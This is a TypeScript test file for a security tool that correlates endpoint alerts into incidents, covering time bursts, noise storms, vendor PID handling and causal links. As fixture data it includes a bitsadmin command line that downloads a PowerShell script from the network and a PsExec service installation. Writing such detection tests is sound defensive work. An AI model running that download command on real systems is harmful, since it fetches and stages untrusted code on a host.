import { followerIds } from '../../../lambdas/core/correlate/background';
import { correlate } from '../../../lambdas/core/correlate/correlate';
import type { GroupHead } from '../../../lambdas/core/correlate/correlate';
import { SHORT_LINK_WINDOW_MS, burstKey, isSignal, linkKeys } from '../../../lambdas/core/correlate/keys';
import type { Alert } from '../../../lambdas/core/model/alert';
import type { EnrichedAlert } from '../../../lambdas/core/model/enrichment';
import { makeEnriched } from '../../helpers/alerts';

/**
 * One attack on one host is one incident even where the sensors missed the link (a parent not captured, a log
 * cleared by another process): detections minutes apart join (`burst:`), and background telemetry follows the
 * nearest one. Two attacks hours apart stay two, and noise never bridges them.
 */

const T0 = Date.parse('2024-03-04T10:00:00.000Z');
const MIN = 60_000;
const at = (ms: number): string => new Date(T0 + ms).toISOString();

/** A detection with no process, file or rule to link it: only time and host can join it. */
function signal(id: string, ms: number, overrides: Partial<Alert> = {}): EnrichedAlert {
  return makeEnriched(
    {
      alertId: id,
      eventTime: at(ms),
      rule: { name: `rule ${id}` },
      techniques: [],
      registry: undefined,
      process: undefined,
      eventType: 'windows_event',
      ...overrides,
    },
    75,
  );
}

/** Background telemetry: a system process's registry write, no rule, scored as nothing. */
function noise(id: string, ms: number, overrides: Partial<Alert> = {}): EnrichedAlert {
  return makeEnriched(
    {
      alertId: id,
      eventTime: at(ms),
      rule: undefined,
      techniques: [],
      registry: undefined,
      process: undefined,
      eventType: 'registry_value_set',
      ...overrides,
    },
    20,
  );
}

const run = (alerts: EnrichedAlert[], heads = new Map<string, GroupHead>()) =>
  correlate(alerts, heads, undefined, at(0)).assignment;

const incidents = (alerts: EnrichedAlert[]): number => new Set(run(alerts).values()).size;

describe('signals', () => {
  it('counts a detection or a medium Sigma match as a signal, and telemetry or a low rule as none', () => {
    expect(isSignal(signal('a', 0))).toBe(true);
    expect(isSignal(noise('b', 0))).toBe(false);
    const low = { id: 'r1', title: 'dir /s', level: 'low' as const, tags: [] };
    expect(isSignal(noise('c', 0, { detections: [low] }))).toBe(false);
    expect(isSignal(noise('d', 0, { detections: [{ ...low, level: 'medium' }] }))).toBe(true);
    expect(isSignal(signal('e', 0, { flags: ['vendor-benign'] }))).toBe(false);
  });

  it('gives the host burst key to signals only, and a near key to telemetry only', () => {
    const host = signal('a', 0).enrichment.hostKey;
    expect(linkKeys(signal('a', 0)).short).toContain(burstKey(host));
    expect(linkKeys(signal('a', 0)).near).toEqual([]);
    expect(linkKeys(noise('b', 0)).short).not.toContain(burstKey(host));
    expect(linkKeys(noise('b', 0)).near).toEqual([burstKey(host)]);
  });

  it('keeps an alert whose local time was never measured out of every time join', () => {
    const unmeasured = signal('a', 0, { flags: ['time-zone-unverified'] });
    expect(linkKeys(unmeasured).short.some((k) => k.startsWith('burst:'))).toBe(false);
    expect(linkKeys(noise('b', 0, { flags: ['time-zone-unverified'] })).near).toEqual([]);
    expect(incidents([unmeasured, signal('c', 1000)])).toBe(2);
  });

  it('lets no vendor detection merely follow: a low EDR alert is its own finding', () => {
    const low = noise('cs:1', 1000, { source: { product: 'crowdstrike', format: 'crowdstrike-alerts-v2' } });
    expect(linkKeys(low).near).toEqual([]);
    expect(incidents([signal('a', 0), low])).toBe(2);
  });
});

describe('one attack on one host', () => {
  it('joins detections on one host minutes apart with no key between them', () => {
    expect(incidents([signal('clear', 0), signal('dump', 9_000), signal('persist', 4 * MIN)])).toBe(1);
  });

  it('keeps detections on two hosts apart', () => {
    expect(incidents([signal('a', 0), signal('b', 1000, { host: { name: 'OTHER-HOST' } })])).toBe(2);
  });

  it('makes background telemetry within minutes of the attack follow it', () => {
    const alerts = [noise('n1', -2 * MIN), signal('a', 0), noise('n2', 30_000), noise('n3', 3 * MIN)];
    expect(incidents(alerts)).toBe(1);
  });

  it('leaves telemetry far from any detection where its own keys put it', () => {
    const a = run([signal('a', 0), noise('n', 30 * MIN)]);
    expect(a.get('n')).not.toBe(a.get('a'));
  });
});

describe('no over-merging', () => {
  it('keeps two unrelated attacks on one host hours apart separate', () => {
    const a = run([signal('a1', 0), signal('a2', 20_000), signal('b1', 3 * 60 * MIN), signal('b2', 3 * 60 * MIN + 5)]);
    expect(a.get('a1')).toBe(a.get('a2'));
    expect(a.get('b1')).toBe(a.get('b2'));
    expect(a.get('a1')).not.toBe(a.get('b1'));
  });

  it('does not let benign noise every two minutes glue two attacks together', () => {
    const chatter = Array.from({ length: 61 }, (_, i) => noise(`n${i}`, i * 2 * MIN));
    const a = run([signal('a', 0), ...chatter, signal('b', 120 * MIN)]);
    expect(a.get('a')).not.toBe(a.get('b'));
    // The noise storm itself (one event shape on the host) is one group: it follows one attack, not both.
    const followed = new Set(chatter.map((n) => a.get(n.alertId)));
    expect(followed.size).toBe(1);
  });

  it('does not let a rule firing all day on the host glue two attacks together', () => {
    // A medium rule that accuses nothing here fires every two minutes for four hours: one storm, one incident.
    const noisy = Array.from({ length: 121 }, (_, i) => signal(`r${i}`, i * 2 * MIN, { rule: { name: 'noisy rule' } }));
    const a = run([...noisy, signal('a', 30_000), signal('b', 3 * 60 * MIN + 30_000)]);
    expect(new Set(noisy.map((n) => a.get(n.alertId))).size).toBe(1);
    // The attack at the storm's start joins it; the one three hours later does not.
    expect(a.get('a')).toBe(a.get('r0'));
    expect(a.get('b')).not.toBe(a.get('a'));
  });

  it('does not let a storm seen in an earlier batch reopen the host’s window', () => {
    const storm = linkKeys(signal('r', 0, { rule: { name: 'noisy rule' } })).storm;
    const heads = new Map<string, GroupHead>([
      [storm, { key: storm, incidentId: 'INC-STORM', lastSeen: at(59 * MIN), incidentCreated: at(0) }],
    ]);
    const a = run([signal('r', 60 * MIN, { rule: { name: 'noisy rule' } }), signal('b', 61 * MIN)], heads);
    expect(a.get('r')).toBe('INC-STORM');
    expect(a.get('b')).not.toBe('INC-STORM');
  });

  it('makes noise between two attacks follow the nearer one without joining them', () => {
    // Different event shapes, so no storm key joins the two noise events to each other.
    const n1 = noise('n1', 4 * MIN, { eventType: 'image_load' });
    const n2 = noise('n2', 7 * MIN, { eventType: 'process_access' });
    const a = run([signal('a', 0), n1, n2, signal('b', 11 * MIN)]);
    expect(a.get('a')).not.toBe(a.get('b'));
    expect(a.get('n1')).toBe(a.get('a'));
    expect(a.get('n2')).toBe(a.get('b'));
  });

  it('does not let a later batch’s noise lead its attack into an earlier incident', () => {
    const host = signal('x', 0).enrichment.hostKey;
    const heads = new Map<string, GroupHead>([
      [burstKey(host), { key: burstKey(host), incidentId: 'INC-A', lastSeen: at(0), incidentCreated: at(0) }],
    ]);
    // The noise is within the window of the earlier attack and of one process tree with the new detection, which
    // is not within it: the group goes where its signal leads.
    const proc = { guid: '{c0ffee00-0000-0000-0000-000000000001}', image: 'C:\\Users\\Public\\tool.exe' };
    const n = noise('n', 4 * MIN, { process: proc });
    const b = signal('b', 8 * MIN, { process: proc });
    const a = run([n, b], heads);
    expect(a.get('b')).not.toBe('INC-A');
    expect(a.get('n')).toBe(a.get('b'));
  });

  it('lets a later batch’s noise follow an earlier attack through its head', () => {
    const host = signal('x', 0).enrichment.hostKey;
    const heads = new Map<string, GroupHead>([
      [burstKey(host), { key: burstKey(host), incidentId: 'INC-A', lastSeen: at(0), incidentCreated: at(0) }],
    ]);
    expect(run([noise('n', SHORT_LINK_WINDOW_MS - 1000)], heads).get('n')).toBe('INC-A');
    expect(run([noise('n', SHORT_LINK_WINDOW_MS + 1000)], heads).get('n')).not.toBe('INC-A');
  });

  it('never writes a head from noise, so noise cannot stretch the window', () => {
    const c = correlate([signal('a', 0), noise('n', 4 * MIN)], new Map(), undefined, at(0));
    const head = c.heads.find((h) => h.key.startsWith('burst:'));
    expect(head?.lastSeen).toBe(at(0));
  });
});

describe('causal keys the sensors give', () => {
  it('joins a service installation and the process the Service Control Manager starts from its ImagePath', () => {
    const install = noise('7045', 0, {
      eventType: 'service_install',
      service: { name: 'PSEXESVC', path: '%SystemRoot%\\PSEXESVC.exe' },
      flags: ['time-zone-unverified'],
    });
    const start = noise('sysmon-1', 1000, {
      eventType: 'process_create',
      process: {
        guid: '{07000000-0001-6639-0000-000000000b01}',
        image: 'C:\\Windows\\PSEXESVC.exe',
        parent: { image: 'C:\\Windows\\System32\\services.exe' },
      },
    });
    expect(incidents([install, start])).toBe(1);
  });

  it('does not join two processes of one binary the SCM started, without the installation', () => {
    const start = (id: string, ms: number, guid: string) =>
      noise(id, ms, {
        eventType: 'process_create',
        process: {
          guid,
          image: 'C:\\Program Files\\Agent\\agent.exe',
          parent: { image: 'C:\\Windows\\System32\\services.exe' },
        },
      });
    const a = run([start('s1', 0, '{1}'), start('s2', 3 * 60 * MIN, '{2}')]);
    expect(a.get('s1')).not.toBe(a.get('s2'));
  });

  it('joins a download command line and the DNS query another process makes for its server', () => {
    const cmd = noise('bitsadmin', 0, {
      eventType: 'process_create',
      process: {
        guid: '{b}',
        image: 'C:\\Windows\\System32\\bitsadmin.exe',
        commandLine:
          'bitsadmin.exe /transfer qcxjb /Priority HIGH https://raw.githubusercontent.com/x/y.ps1 C:\\Users\\Public\\y.ps1',
      },
    });
    const dns = noise('dns', 2000, {
      eventType: 'dns_query',
      process: { guid: '{s}', image: 'C:\\Windows\\System32\\svchost.exe' },
      dns: { query: 'raw.githubusercontent.com', results: ['185.199.108.133'] },
    });
    expect(linkKeys(cmd).consumed).toContain(`dns:${cmd.enrichment.hostKey}:raw.githubusercontent.com`);
    expect(incidents([cmd, dns])).toBe(1);
  });
});

describe('vendor process ids', () => {
  it('makes no pid key from a product that names processes by path only', () => {
    const s1 = noise('s1:1', 0, {
      source: { product: 'sentinelone', format: 'sentinelone-threat' },
      process: { pid: 4242, image: 'C:\\Users\\Public\\x.exe' },
    });
    expect(linkKeys(s1).produced.some((k) => k.startsWith('pid:'))).toBe(false);
  });

  it('makes no pid key from a number no OS uses as a PID (a sensor id that reached `pid`)', () => {
    const cs = noise('cs:1', 0, {
      source: { product: 'crowdstrike', format: 'crowdstrike-alerts-v2' },
      process: { pid: 10987345521, image: 'C:\\Users\\Public\\x.exe' },
    });
    expect(linkKeys(cs).produced.some((k) => k.startsWith('pid:'))).toBe(false);
  });

  it('keeps the pid key for an OS PID', () => {
    const sys = noise('sysmon:1', 0, { process: { pid: 4242, image: 'C:\\Users\\Public\\x.exe' } });
    expect(linkKeys(sys).produced).toContain(`pid:${sys.enrichment.hostKey}:4242:x.exe`);
  });
});

describe('followers in the draft', () => {
  it('tells the telemetry that only followed the attack from the attack’s own events', () => {
    const proc = { guid: '{d00d0000-0000-0000-0000-000000000001}', image: 'C:\\Users\\Public\\tool.exe' };
    const alerts = [
      signal('dump', 0, { process: proc }),
      noise('own', 1000, { eventType: 'image_load', process: proc }),
      noise('agent', 2000, { eventType: 'network_connect' }),
    ];
    expect(new Set(run(alerts).values()).size).toBe(1);
    expect([...followerIds(alerts)]).toEqual(['agent']);
  });

  it('names no follower in an incident with no signal', () => {
    expect(followerIds([noise('a', 0), noise('b', 1000, { eventType: 'image_load' })]).size).toBe(0);
  });
});
